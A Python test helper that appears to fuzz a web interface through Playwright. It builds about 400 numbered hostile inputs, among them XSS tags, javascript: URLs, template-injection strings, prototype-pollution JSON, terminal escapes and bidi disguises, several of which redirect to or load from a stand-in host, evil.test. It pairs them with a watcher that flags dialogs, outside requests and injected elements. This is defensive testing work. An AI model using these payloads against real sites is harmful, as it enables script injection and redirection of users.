"""Texts that a stranger could write to do harm in a browser, and a watch that notices if one did.

Every text holds its number N as `zqN` or `zq=N`, so that what is seen, and what it did, can be traced to it.
"""

import itertools
import re
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

if TYPE_CHECKING:
    from playwright.sync_api import BrowserContext, Page

MARK = re.compile(r"zq=?(\d{4})")

_NUMBER = re.compile(r"(?<=zq)N|(?<=zq=)N|(?<=hacked=)N|(?<=alert\()N")

# What a text runs if it can, and how it gets out of where it stands. N is its number.
_SCRIPTS = ("window.hacked=N", "alert(N)", "fetch(`/hit/zqN`)", "top.location=`//evil.test/zqN`")
_WAYS_OUT = ("", '">', "'>", "</textarea>", "</title></style></script>", "-->]]>", "</svg></pre>")
_TAGS = (
    "<script zq=N>JS</script>",
    "<img zq=N src=/hit/zqN onerror=JS>",
    "<img/zq=N/src='https://evil.test/zqN.png'>",
    "<svg zq=N onload=JS>",
    "<svg zq=N><script>JS</script><animate onbegin=JS attributeName=x dur=1s>",
    '<iframe zq=N srcdoc="<script>parent.JS</script>"></iframe>',
    "<iframe zq=N src=javascript:JS></iframe>",
    "<a zq=N href=javascript:JS>zqN</a>",
    "<a zq=N href='java&#9;script:JS'>zqN</a>",
    "<details zq=N open ontoggle=JS>zqN",
    "<input zq=N autofocus onfocus=JS>",
    "<video zq=N><source onerror=JS src=/hit/zqN></video>",
    "<object zq=N data=javascript:JS></object>",
    "<embed zq=N src=//evil.test/zqN>",
    "<math zq=N><mi xlink:href=javascript:JS>zqN</mi></math>",
    "<style zq=N>@import '//evil.test/zqN';*{background:url(//evil.test/zqN)}</style>",
    "<link zq=N rel=stylesheet href=//evil.test/zqN>",
    "<meta zq=N http-equiv=refresh content='0;url=//evil.test/zqN'>",
    "<base zq=N href=//evil.test/zqN/>",
    "<form zq=N action=javascript:JS><button autofocus>zqN</button></form>",
    "<noscript zq=N><p title='</noscript><img zq=N src=/hit/zqN onerror=JS>'>",
    "<math zq=N><mtext><table><mglyph><style><!--</style><img zq=N src=/hit/zqN onerror=JS>",
    "<x-zq zq=N onclick=JS tabindex=1>zqN</x-zq>",
)
_OTHERS = (
    # Attributes
    'zqN" onmouseover="JS" zq="N',
    "zqN' onfocus='JS' autofocus zq='N",
    'zqN" style="background:url(//evil.test/zqN)" zq="N',
    "zqN onerror=JS zq=N ",
    # Addresses
    "javascript:JS//zqN",
    "JaVaScRiPt:JS//zqN",
    "java\tscript:JS//zqN",
    "\x01javascript:JS//zqN",
    "data:text/html,<script>JS</script>zqN",
    "//evil.test/zqN",
    "https://evil.test/zqN.png",
    "../../hit/zqN",
    "?run=zqN&view=<script>JS</script>",
    # Markdown, with and without HTML in it
    "[zqN](javascript:JS)",
    "![zqN](https://evil.test/zqN.png)",
    '![zqN](x"onerror="JS)',
    "[zqN]: javascript:JS\n[zqN]",
    "<https://evil.test/zqN> # zqN\n* <b zq=N>zqN",
    "```html\n<b zq=N>zqN</b>\n```\n| zqN | <b zq=N> |\n|---|---|",
    # Entities and other ways to write the same
    "&lt;img zq=N src=/hit/zqN onerror=JS&gt;",
    "&#60;img zq=N src=/hit/zqN onerror=JS&#62;",
    "&#x3c;script zq=N&#x3e;JS&#x3c;/script&#x3e;zqN",
    "\\u003cimg zq=N src=/hit/zqN onerror=JS\\u003e",
    "%3Cimg zq=N src=/hit/zqN onerror=JS%3E",
    "%253Cscript zq=N%253EJS%253C/script%253Ezq N zqN",
    "\uff1cimg zq=N src=/hit/zqN onerror=JS\uff1e",
    "<\x00img zq=N src=/hit/zqN onerror=JS>",
    "\u2028JS//zqN",
    # Templates of Gradio, Svelte, Vue, Jinja
    "${JS}zqN",
    "`${JS}zqN`",
    "{{constructor.constructor(`JS`)()}}zqN",
    "{{7*7}}zqN{{value}}",
    "${value}zqN",
    "{@html '<img zq=N src=/hit/zqN onerror=JS>'}",
    "{#if JS}zqN{/if}",
    "<%= JS %>zqN",
    "{% for x in ().__class__.__base__.__subclasses__() %}zqN{% endfor %}",
    # JSON and scripts that it may be written into
    '"}];JS;//zqN',
    "'-JS-'zqN",
    "*/JS/*zqN",
    '{"__proto__":{"hacked":"zqN"}}',
    '{"__type__":"update","value":"<img zq=N src=/hit/zqN onerror=JS>"}',
    "data: {}\n\nevent: gone\ndata: zqN\n\n",
    "\r\n\r\n<img zq=N src=/hit/zqN onerror=JS>",
    # Formulas and diagrams
    "$$\\href{javascript:JS}{zqN}$$",
    "$\\includegraphics{https://evil.test/zqN.png}$",
    "\\(\\htmlData{zq=N}{zqN}\\)\\[\\url{javascript:JS}\\]",
    "```mermaid\ngraph TD; A[<img zq=N src=/hit/zqN onerror=JS>]-->zqN; click A href `javascript:JS`\n```",
)
# Texts that look like other text, or act on a terminal.
_DISGUISES = (
    "\x1b[31mzqN\x1b[0m",
    "\x1b]0;zqN\x07",
    "\x1b]8;;https://evil.test/zqN\x07zqN\x1b]8;;\x07",
    "\x1b[2J\x1b[HzqN",
    "\x9b31mzqN",
    "\x1b[201~zqN\n",
    "zqN\x08\x08\x08\x7f",
    "\x00zqN\x0b\x0c",
    *(f"zqN{chr(c)}txt.exe{chr(0x2069)}" for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))),
    *(f"zq{chr(c)}N{chr(c)}zqN" for c in (0x200B, 0x200C, 0x200D, 0x2060, 0xFEFF, 0xAD, 0x61C)),
    "zqN\u200e\u200f\u180e\u3164",
    "".join(chr(0xE0000 + ord(c)) for c in "zqN") + "zqN",
    "zqN" + "\u0301" * 200,
    "zqN" + "W" * 3000,
    "zqN" + "\ufdfd" * 100,
    "\ufffe\uffffzqN",
)
# What no name or sentence on the page may hold: C0 and C1 without line end and tab, and what reorders its neighbours.
UNSEEN = "\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069"


def hostile_texts() -> list[str]:
    """Some 400, the same every time. What runs a script is there with each of them; tags take turns."""
    tags = [way + tag for way, tag in itertools.product(_WAYS_OUT, _TAGS)]
    written = [text.replace("JS", js) for text, js in zip(tags, itertools.cycle(_SCRIPTS))]
    for text in (*_OTHERS, *_DISGUISES):
        written += dict.fromkeys(text.replace("JS", js) for js in _SCRIPTS)
    return [_NUMBER.sub(str(number), text) for number, text in enumerate(written, 1000)]


# An element that came of a text: it has the attribute, or an address or a script of its own.
_WATCH = r"""(() => {
  const hits = (window.zqHits = []);
  const names = /^(on.*|zq|href|src|srcset|srcdoc|action|formaction|xlink:href|data|poster|content|style|background)$/i;
  const see = (node) => {
    if (node.nodeType !== Node.ELEMENT_NODE) return;
    for (const { name, value } of node.attributes) {
      const isOurs = name === "href" && /^\?run=[0-9a-f]{32}&view=run$/.test(value);
      const isBad = /^zq$|^on/i.test(name) || (names.test(name) && /zq\d|evil|javascript:/i.test(value) && !isOurs);
      if (isBad) hits.push(node.outerHTML.slice(0, 300));
    }
    const acts = /^(script|style|iframe|object|embed|link|meta|base|title|img)$/i.test(node.nodeName);
    if (acts && /zq\d/.test(node.textContent)) hits.push(node.outerHTML.slice(0, 300));
    if (node.shadowRoot) node.shadowRoot.querySelectorAll("*").forEach(see);
  };
  new MutationObserver((changes) => changes.forEach(({ target, addedNodes }) => {
    see(target);
    addedNodes.forEach((node) => { see(node); node.querySelectorAll?.("*").forEach(see); });
  })).observe(document, { childList: true, subtree: true, attributes: true });
})();"""
_UNSEEN_ON_PAGE = (
    r"""() => {
  const found = [];
  const NAMES = ["title", "aria-label", "placeholder", "alt", "data-copy"];
  const look = (node, value) => {
    if (/[UNSEEN]/.test(value)) found.push(node.outerHTML.slice(0, 100) + ": " + JSON.stringify(value).slice(0, 200));
  };
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT | NodeFilter.SHOW_ELEMENT);
  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
    if (/^(SCRIPT|STYLE|TEXTAREA)$/.test((node.parentElement ?? node).nodeName)) continue;
    if (node.nodeType === Node.TEXT_NODE) look(node.parentElement, node.data);
    else NAMES.forEach((name) => look(node, node.getAttribute(name) ?? ""));
  }
  return found;
}"""
).replace("UNSEEN", "".join(f"\\u{ord(c):04x}" if c != "-" else c for c in UNSEEN))


@dataclass
class Watch:
    """What happened in a browser that should not: dialogs, requests, windows, elements, text that acts unseen."""

    origin: str
    found: list[str] = field(default_factory=list)
    seen: dict[str, set[str]] = field(default_factory=dict)

    def over(self, context: "BrowserContext") -> None:
        """Watch every page that opens in it."""
        context.add_init_script(_WATCH)
        context.on("page", self._on_page)
        context.on("dialog", self._on_dialog)
        context.on("request", self._on_request)

    def _on_page(self, page: "Page") -> None:
        if len(page.context.pages) > 1:
            self.found.append(f"a window opened: {page.url}")

    def _on_dialog(self, dialog: Any) -> None:
        self.found.append(f"a dialog: {dialog.message}")
        dialog.dismiss()

    def _on_request(self, request: Any) -> None:
        at = urlsplit(request.url)
        is_here = at.scheme in ("blob", "data") or f"{at.scheme}://{at.netloc}" == self.origin
        if not is_here or at.path.startswith("/hit"):
            self.found.append(f"a request: {request.url[:200]}")

    def look(self, page: "Page", **places: str) -> None:
        """Note what came of the texts on the page as it is now, and which of them stand in `places` (selectors)."""
        hits = page.evaluate(
            "[...window.zqHits.splice(0), ...(window.hacked ? ['hacked: ' + hacked] : [])]"
        )
        self.found += [f"an element: {hit}" for hit in hits]
        self.found += [f"unseen characters: {each}" for each in page.evaluate(_UNSEEN_ON_PAGE)]
        if wide := page.evaluate(
            "document.documentElement.scrollWidth - document.documentElement.clientWidth"
        ):
            self.found.append(f"the page is {wide} px wider than its window")
        for name, selector in places.items():
            parts = page.locator(selector).evaluate_all(
                "all => all.map(e => e.textContent + (e.value ?? ''))"
            )
            self.seen.setdefault(name, set()).update(MARK.findall(" ".join(parts)))
